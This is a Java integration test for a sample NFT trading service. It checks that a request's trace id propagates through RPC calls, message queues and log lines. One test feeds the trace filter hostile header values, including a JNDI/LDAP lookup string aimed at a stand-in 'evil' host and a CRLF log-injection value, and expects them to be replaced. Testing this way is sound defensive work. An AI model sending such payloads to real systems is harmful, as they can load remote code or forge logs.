package io.tradekit.sample.nft.shared.trace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.tradekit.core.trace.TraceId;
import io.tradekit.core.trace.http.TraceIdFilter;
import io.tradekit.sample.nft.SampleAppTest;
import io.tradekit.sample.nft.order.TradingClient;
import io.tradekit.sample.nft.order.application.OrderMessages;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.rocketmq.client.QueryResult;
import org.apache.rocketmq.client.producer.DefaultMQProducer;
import org.apache.rocketmq.common.message.MessageExt;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Follows one buy and its payment by the id the buy answered in {@code X-Trace-Id}: the Dubbo providers'
 * facade lines, the create message's user property (read back from the broker), the consumer's line for
 * the order write and the mint's line on the chain's pool all carry it. Hostile client ids are replaced,
 * and no id survives its request on the container's threads.
 */
@SampleAppTest
class TraceIdEndToEndTest {

    private static final BigDecimal PRICE = new BigDecimal("3.30");
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final ObjectMapper JSON = new ObjectMapper();

    @LocalServerPort
    int port;

    @Value("${rocketmq.name-server}")
    String nameServer;

    private final ListAppender<ILoggingEvent> logs = new ListAppender<>();
    private final Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);

    @BeforeEach
    void capture() {
        logs.start();
        root.addAppender(logs);
    }

    @AfterEach
    void release() {
        root.detachAppender(logs);
        logs.stop();
    }

    @Test
    void oneBuyAndItsPaymentCarryTheIdTheBuyAnswered() throws Exception {
        TradingClient client = new TradingClient(port);
        long collectionId = client.openCollection(client.admin(), PRICE, 3, false, Instant.now().minusSeconds(60));
        String buyer = client.newBuyer();

        HttpResponse<String> bought = post("/trade/buy", buyer, client.token(buyer, "buy"), null,
                Map.of("collectionId", collectionId, "quantity", 1, "price", PRICE));
        assertThat(bought.statusCode()).as(bought.body()).isEqualTo(200);
        String traceId = bought.headers().firstValue(TraceIdFilter.HEADER).orElseThrow();
        assertThat(traceId).matches("[0-9a-f]{32}");
        String orderId = JSON.readTree(bought.body()).path("data").path("orderId").asText();
        client.awaitOrder(buyer, orderId, o -> "CREATED".equals(o.path("state").asText()));

        // The Dubbo providers of the buy: goods, stock and the Redis deduction.
        List<String> facadeLines = lines(traceId, "tradekit.facade");
        assertThat(facadeLines).anyMatch(line -> line.startsWith("call=CollectionFacadeImpl.queryGoods "))
                .anyMatch(line -> line.startsWith("call=InventoryFacadeImpl.deduct "));
        // The message, as the broker stores it.
        assertThat(storedTraceId("order-create-" + orderId)).isEqualTo(traceId);
        // The consumer's line once the order was written (another thread, restored from the message).
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                assertThat(lines(traceId, "io.tradekit.txmsg.consumer.MessageRunner"))
                        .anyMatch(line -> line.contains("handled message key order-create-" + orderId + " ")));

        // The payment is a request of its own (a trace of its own); the mint, on the chain's pool, carries the
        // payment's id and names the buy's, read from the order the buy wrote.
        HttpResponse<String> paid = post("/trade/pay", buyer, client.token(buyer, "pay"), null,
                Map.of("orderId", orderId));
        assertThat(paid.statusCode()).as(paid.body()).isEqualTo(200);
        String paymentTraceId = paid.headers().firstValue(TraceIdFilter.HEADER).orElseThrow();
        assertThat(paymentTraceId).isNotEqualTo(traceId);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            assertThat(lines(paymentTraceId, "io.tradekit.sample.nft.chain.listener.OrderPaidListener"))
                    .contains("Minting paid order " + orderId + " (bought under trace " + traceId + ")");
            assertThat(lines(paymentTraceId, "io.tradekit.sample.nft.chain.application.ChainCommandService"))
                    .contains("Minted 1 NFT(s) for order " + orderId);
        });
        assertThat(events(traceId)).as("every line carrying the id is from this buy's path")
                .allMatch(e -> !e.getThreadName().startsWith("main"));
    }

    @Test
    void hostileClientIdsAreReplacedAndNoIdOutlivesItsRequest() throws Exception {
        Set<String> seen = new HashSet<>();
        // (CR/LF cannot reach a header value over HTTP/1.1: the filter's unit test covers it.)
        String[] hostile = {"0af7651916cd43dd%0d%0aINFO forged", "a".repeat(65), "not-hex-but-safe-chars",
            "${jndi:ldap://evil/a}", "463ac35c9f6413a", "", "0af7651916cd43dd 8448eb211c80319c"};
        for (String id : hostile) {
            HttpResponse<String> answer = get("/collections?page=1&size=1", id);
            String returned = answer.headers().firstValue(TraceIdFilter.HEADER).orElseThrow();
            assertThat(returned).as(id).matches("[0-9a-f]{32}");
            seen.add(returned);
        }
        // Forty requests without an id over the container's few threads: each gets a fresh one.
        for (int i = 0; i < 40; i++) {
            seen.add(get("/collections?page=1&size=1", null).headers().firstValue(TraceIdFilter.HEADER).orElseThrow());
        }
        assertThat(seen).hasSize(hostile.length + 40);
        String wellFormed = "463ac35c9f6413ad0af7651916cd43dd";
        assertThat(get("/collections?page=1&size=1", wellFormed).headers().firstValue(TraceIdFilter.HEADER))
                .hasValue(wellFormed);
        // A refusal before any controller (no session) carries the id as well.
        HttpResponse<String> refused = get("/trade/orders", wellFormed);
        assertThat(refused.statusCode()).isEqualTo(401);
        assertThat(refused.headers().firstValue(TraceIdFilter.HEADER)).hasValue(wellFormed);
    }

    private List<ILoggingEvent> events(String traceId) {
        synchronized (logs) {
            return new ArrayList<>(logs.list).stream()
                    .filter(e -> traceId.equals(e.getMDCPropertyMap().get(TraceId.KEY))).toList();
        }
    }

    private List<String> lines(String traceId, String logger) {
        return events(traceId).stream().filter(e -> e.getLoggerName().equals(logger))
                .map(ILoggingEvent::getFormattedMessage).toList();
    }

    /** The trace id property of the message with this key, read from the broker's index. */
    private String storedTraceId(String key) throws Exception {
        DefaultMQProducer reader = new DefaultMQProducer("trace-test-reader-" + System.nanoTime());
        reader.setNamesrvAddr(nameServer);
        reader.start();
        try {
            String[] found = new String[1];
            await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(200)).untilAsserted(() -> {
                QueryResult result = reader.queryMessage(OrderMessages.CREATE_TOPIC, key, 4, 0, Long.MAX_VALUE);
                List<MessageExt> messages = result.getMessageList();
                assertThat(messages).isNotEmpty();
                found[0] = messages.get(0).getUserProperty(TraceId.PROPAGATION_KEY);
            });
            return found[0];
        } finally {
            reader.shutdown();
        }
    }

    private HttpResponse<String> get(String path, String traceId) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).GET();
        if (traceId != null && !traceId.isEmpty()) {
            request.header(TraceIdFilter.HEADER, traceId);
        }
        return HTTP.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<String> post(String path, String session, String token, String traceId, Object body)
            throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Content-Type", "application/json").header("tradekit-token", session)
                .header("Idempotency-Key", token)
                .POST(HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(body)));
        if (traceId != null) {
            request.header(TraceIdFilter.HEADER, traceId);
        }
        return HTTP.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
    }
}
